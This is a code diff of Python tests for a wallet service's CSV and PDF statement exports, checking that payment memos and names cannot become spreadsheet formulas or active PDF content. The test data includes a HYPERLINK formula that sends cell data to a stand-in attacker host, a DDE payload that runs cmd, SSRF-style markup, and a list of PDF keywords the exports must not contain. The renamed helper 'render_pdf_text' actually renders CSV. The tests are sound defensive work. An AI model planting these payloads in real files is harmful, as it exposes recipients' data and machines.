@@ -10,15 +10,15 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import tapgate
+from harness import PIN, Harness
 from tapgate.wallets.statements import csv_file, pdf_file
-from wallets.pdf_text import pages
-from wallets.test_statement_files import sample
-from wallets.test_statements import statement
-from world import PIN, World
+from wallets.pdf_text import extract_pages
+from wallets.test_statement_files import build_statement
+from wallets.test_statements import get_statement
 
-SIGNS = "=+-@\t\r＝＋－＠"
-NUMBER = re.compile(r"-?[0-9]+\.[0-9]{2}(,.*)?", re.DOTALL)
-ATTACKS = [
+FORMULA_CHARACTERS = "=+-@\t\r＝＋－＠"
+NUMBER_PATTERN = re.compile(r"-?[0-9]+\.[0-9]{2}(,.*)?", re.DOTALL)
+FORMULA_PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1",
@@ -39,47 +39,52 @@ ATTACKS = [
 ]
 
 
-def cells(content: str, separator: str) -> list[str]:
+def split_cells(content: str, separator: str) -> list[str]:
     """As a spreadsheet of some country takes the file apart."""
     reader = csv.reader(io.StringIO(content, newline=""), delimiter=separator)
     return [cell for row in reader for cell in row]
 
 
-def no_formula(cell: str) -> bool:
-    return not cell.strip(" ").startswith(tuple(SIGNS)) or NUMBER.fullmatch(cell) is not None
+def is_safe_cell(cell: str) -> bool:
+    return (
+        not cell.strip(" ").startswith(tuple(FORMULA_CHARACTERS))
+        or NUMBER_PATTERN.fullmatch(cell) is not None
+    )
 
 
-def drawn(memo: str, name: str = "Mohamed S.") -> str:
-    movement = sample(1).movements[0]._replace(memo=memo, counterparty=name, amount=-7)
-    return csv_file.render(sample(0, movements=[movement], opening_balance=-1000)).decode()
+def render_pdf_text(memo: str, name: str = "Mohamed S.") -> str:
+    movement = build_statement(1).movements[0]._replace(memo=memo, counterparty=name, amount=-7)
+    return csv_file.render(build_statement(0, movements=[movement], opening_balance=-1000)).decode()
 
 
-@given(st.text(st.sampled_from(list(SIGNS + ";,|\n\"' a1()"))))
+@given(st.text(st.sampled_from(list(FORMULA_CHARACTERS + ";,|\n\"' a1()"))))
 def test_no_cell_is_a_formula_in_any_country(text: str) -> None:
     """A memo of a payment is written by one person and opened by another, in a spreadsheet where
     a comma or a semicolon or a tab ends a cell."""
-    content = drawn(text, name=text)
+    content = render_pdf_text(text, name=text)
     for separator in (",", ";", "\t"):
-        assert all(no_formula(cell) for cell in cells(content, separator)), separator
+        assert all(is_safe_cell(cell) for cell in split_cells(content, separator)), separator
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", FORMULA_PAYLOADS)
 def test_a_formula_in_a_memo_is_a_text_and_an_amount_stays_a_number(attack: str) -> None:
     """The cure must not break the file: a sign before an amount below zero stays, separators and
     quotes stay within their cell."""
     for separator in (",", ";", "\t"):
-        assert all(no_formula(cell) for cell in cells(drawn(attack), separator)), separator
-    header, row = csv.reader(io.StringIO(drawn(attack), newline=""))
+        assert all(
+            is_safe_cell(cell) for cell in split_cells(render_pdf_text(attack), separator)
+        ), separator
+    header, row = csv.reader(io.StringIO(render_pdf_text(attack), newline=""))
     assert len(header) == len(row) == 7
     assert row[4:] == ["0.07", "", "-10.07"]
     assert attack.strip().replace("'", "")[-3:] in row[3].replace("'", "")
 
 
-async def test_what_a_sender_wrote_is_harmless_in_the_receivers_statement(world: World) -> None:
+async def test_what_a_sender_wrote_is_harmless_in_the_receivers_statement(world: Harness) -> None:
     """From the payment to the file, as an attacker would do it."""
-    sender, receiver = await world.subscriber(balance="100"), await world.subscriber()
-    card = await world.card(receiver["id"])
-    for attack in ATTACKS:
+    sender, receiver = await world.create_subscriber(balance="100"), await world.create_subscriber()
+    card = await world.create_card(receiver["id"])
+    for attack in FORMULA_PAYLOADS:
         order = {
             "sender_id": sender["id"],
             "recipient_card_serial": card,
@@ -88,19 +93,19 @@ async def test_what_a_sender_wrote_is_harmless_in_the_receivers_statement(world:
             "memo": attack,
         }
         url = "/api/v1/wallet/transfer-p2p"
-        answer = await world.client.post(url, json=order, auth=world.service())
+        answer = await world.client.post(url, json=order, auth=world.get_service_auth())
         assert answer.status_code in (200, 403, 422), answer.text
-    key = await world.api_key("payments:read")
-    made = await statement(world, key, receiver, format="csv")
+    key = await world.create_api_key("payments:read")
+    made = await get_statement(world, key, receiver, format="csv")
     file = await world.client.get(
         made["statement_url"].removeprefix(world.services.settings.public_url)
     )
     assert made["transaction_count"] >= 10
     for separator in (",", ";", "\t"):
-        assert all(no_formula(cell) for cell in cells(file.text, separator))
+        assert all(is_safe_cell(cell) for cell in split_cells(file.text, separator))
 
 
-MARKUP = [
+MARKUP_PAYLOADS = [
     "<b>bold</b>",
     '<font size="99">',
     '<img src="http://127.0.0.1/x"/>',
@@ -115,16 +120,16 @@ MARKUP = [
 ]
 
 
-@pytest.mark.parametrize("text", MARKUP)
+@pytest.mark.parametrize("text", MARKUP_PAYLOADS)
 def test_a_name_or_memo_is_drawn_as_it_is_written(text: str) -> None:
     """Who makes paragraphs of what people write lets them fetch pictures and read files from the
     machine that draws the page."""
-    movement = sample(1).movements[0]._replace(memo=text, counterparty="X")
-    pdf = pdf_file.render(sample(0, movements=[movement], holder_name=text))
-    (page,) = pages(pdf)
+    movement = build_statement(1).movements[0]._replace(memo=text, counterparty="X")
+    pdf = pdf_file.render(build_statement(0, movements=[movement], holder_name=text))
+    (page,) = extract_pages(pdf)
     assert text in page
     assert any(words.startswith(movement.description[:30]) for words in page)
-    assert pdf.count(b" obj\n") == pdf_file.render(sample(1)).count(b" obj\n")
+    assert pdf.count(b" obj\n") == pdf_file.render(build_statement(1)).count(b" obj\n")
     for word in (b"/JavaScript", b"/OpenAction", b"/URI", b"/Launch", b"/EmbeddedFile"):
         assert word not in pdf.replace(b"/OpenAction /JavaScript \\(", b"")
 
